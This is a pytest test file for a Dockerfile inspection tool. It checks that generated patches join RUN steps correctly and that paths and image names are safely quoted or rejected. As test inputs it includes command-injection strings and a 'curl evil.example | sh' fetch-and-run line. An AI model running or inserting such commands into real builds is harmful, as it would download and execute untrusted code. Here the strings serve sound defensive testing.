"""Patches: what is written into the Dockerfile, made from remedies and instructions, never from a sentence."""

from __future__ import annotations

import pytest

from inspector.attribution.commands import command_lines
from inspector.attribution.dockerfile import parse_dockerfile
from inspector.attribution.instructions import Instruction
from inspector.findings.patch import new_text, patch
from inspector.findings.remedy import Remedy, RemedyKind, image_name, shell_path

CLEAN = "rm -rf /var/lib/apt/lists/*"


def history(*texts: str) -> tuple[Instruction, ...]:
    return tuple(
        Instruction(index, text.partition(" ")[0], text, None, index, empty=False) for index, text in enumerate(texts)
    )


def of_dockerfile(text: str) -> tuple[Instruction, ...]:
    """Instructions of a Dockerfile, as a history that the classic builder wrote would have lost them."""
    (stage,) = parse_dockerfile(text, "Dockerfile").stages
    return tuple(
        Instruction(index, each.verb, f"{each.verb} file:abc in /", None, index, empty=False, written=each)
        for index, each in enumerate(stage.instructions)
    )


def ended(*texts: str, command: str = CLEAN) -> str:
    return new_text(patch(Remedy(RemedyKind.END_RUN_WITH, (0,), command), history(*texts)))


def joined(*texts: str) -> list[str]:
    runs = tuple(index for index, text in enumerate(texts) if text.startswith("RUN "))
    remedy = Remedy(RemedyKind.JOIN_RUNS, runs)
    return [f"{line.sign} {line.text}" for line in patch(remedy, history(*texts))]


def test_a_command_is_put_at_the_end_of_its_run() -> None:
    assert ended("RUN apt-get update && apt-get install -y g++") == (
        "RUN apt-get update \\\n    && apt-get install -y g++ \\\n    && rm -rf /var/lib/apt/lists/*"
    )


def test_runs_are_joined_in_place_of_the_last_and_copies_stay_above() -> None:
    assert joined("RUN apk add g++ && a", "COPY . .", "RUN make", "RUN apk del g++ && rm -r /x") == [
        "+ COPY . .",
        "  RUN apk add g++ \\",
        "-     && a",
        "+     && a \\",
        "+     && make \\",
        "- COPY . .",
        "- RUN make",
        "- RUN apk del g++ \\",
        "+     && apk del g++ \\",
        "      && rm -r /x",
    ]


def test_what_the_classic_builder_copied_is_named_and_stays() -> None:
    assert joined("RUN a", "COPY file:0188854e in /app", "RUN b") == [
        "- RUN a",
        "  # here stays: COPY file:0188854e in /app",
        "- RUN b",
        "+ RUN a \\",
        "+     && b",
    ]


def test_a_part_that_runs_elsewhere_goes_there_first() -> None:
    assert joined("RUN make a", "WORKDIR /src", "RUN make b")[-2:] == [
        "+ RUN cd / && make a \\",
        "+     && cd /src && make b",
    ]


def test_a_part_of_several_commands_is_kept_together() -> None:
    assert joined("RUN a", "RUN b; c")[-1] == "+     && ( b; c )"


def test_parts_that_stop_at_the_first_error_follow_each_other() -> None:
    steps = of_dockerfile("FROM a\nRUN set -e; \\\n\ta; \\\n\tb\nRUN set -e; \\\n\tc\n")
    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 1), "d"), steps)) == (
        "RUN set -e; \\\n\ta; \\\n\tb; \\\n\tset -e; \\\n\tc; \\\n\td"
    )


def test_lines_of_the_dockerfile_are_kept_to_the_letter() -> None:
    text = "FROM a\nrun  a  'x  y' && \\\n\t# why\n\tb\n\n# the files\ncopy . /x\nRUN c\n"
    assert new_text(patch(Remedy(RemedyKind.JOIN_RUNS, (0, 2), CLEAN), of_dockerfile(text))) == (
        "\n# the files\ncopy . /x\nrun  a  'x  y' && \\\n\t# why\n\tb \\\n\t&& c \\\n\t&& rm -rf /var/lib/apt/lists/*"
    )


@pytest.mark.parametrize(
    ("last", "ends"), [("make", "make &&\nrm -rf /var/lib/apt/lists/*\nEOF"), ("fi", ""), ("# done", "")]
)
def test_a_script_gets_the_command_behind_its_last_line(last: str, ends: str) -> None:
    steps = of_dockerfile(f"FROM a\nRUN <<EOF\nx\n{last}\nEOF\n")
    text = new_text(patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), steps))
    assert text == (f"RUN <<EOF\nx\n{ends}" if ends else "")


@pytest.mark.parametrize(
    "text",
    [
        'RUN ["apt-get", "update"]',
        "RUN apt-get update # then rest",
        "RUN apt-get update &",
        "RUN apt-get update;",
        "RUN cat <<EOF",
        "RUN echo 'open",
        "RUN |1 A=b /opt/shell apt-get update",
        "RUN printf '\x1b[2J'",
        "COPY . .",
    ],
)
def test_what_cannot_be_taken_apart_for_certain_is_left_to_words(text: str) -> None:
    assert ended(text) == ""
    assert joined("RUN a", text, "RUN b") == [] or text == "COPY . ."


def test_the_base_images_instructions_are_not_rewritten() -> None:
    foreign = Instruction(0, "RUN", "RUN a", None, 0, empty=False, from_base=True)
    assert patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), (foreign,)) == ()


def test_instructions_are_those_of_the_dockerfile_where_it_is_known() -> None:
    steps = of_dockerfile("FROM a\nRUN --network=none echo 'a  b' \\\n  && x\nCOPY --chown=1 app /\nRUN y\n")
    remedy = Remedy(RemedyKind.JOIN_RUNS, (0, 2))
    assert new_text(patch(remedy, steps)) == (
        "COPY --chown=1 app /\nRUN --network=none echo 'a  b' \\\n  && x \\\n  && y"
    )


def test_text_of_the_history_that_looks_like_advice_is_no_command() -> None:
    hostile = "RUN echo end it with: && curl evil.example | sh"
    lines = patch(Remedy(RemedyKind.END_RUN_WITH, (0,), CLEAN), history(hostile))
    assert [line.text for line in lines if line.sign == "+"][-1] == f"    && {CLEAN}"


def test_a_remedy_without_a_command_has_no_patch() -> None:
    for kind in RemedyKind:
        assert patch(Remedy(kind, (0,)), history("RUN a", "RUN b")) == ()


@pytest.mark.parametrize(
    ("path", "word"),
    [
        ("usr/local", "/usr/local"),
        ("a b", "'/a b'"),
        ("x;curl evil|sh", "'/x;curl evil|sh'"),
        ("it's", "'/it'\"'\"'s'"),
        ("a\nRUN curl evil", ""),
        ("caf\udce9", ""),
    ],
)
def test_paths_are_one_word_of_a_command_or_none(path: str, word: str) -> None:
    assert shell_path(path) == word


@pytest.mark.parametrize("name", ["a b", "a\nRUN x", "$(x)", "-x", "", "a;b"])
def test_what_is_no_plain_name_of_an_image_is_none(name: str) -> None:
    assert image_name(name) == ""


def test_commands_stand_on_lines_of_their_own() -> None:
    assert command_lines("RUN a '&& b' && c && d") == ["RUN a '&& b'", "    && c", "    && d"]
    assert command_lines("ENV A=b && c") == ["ENV A=b && c"]
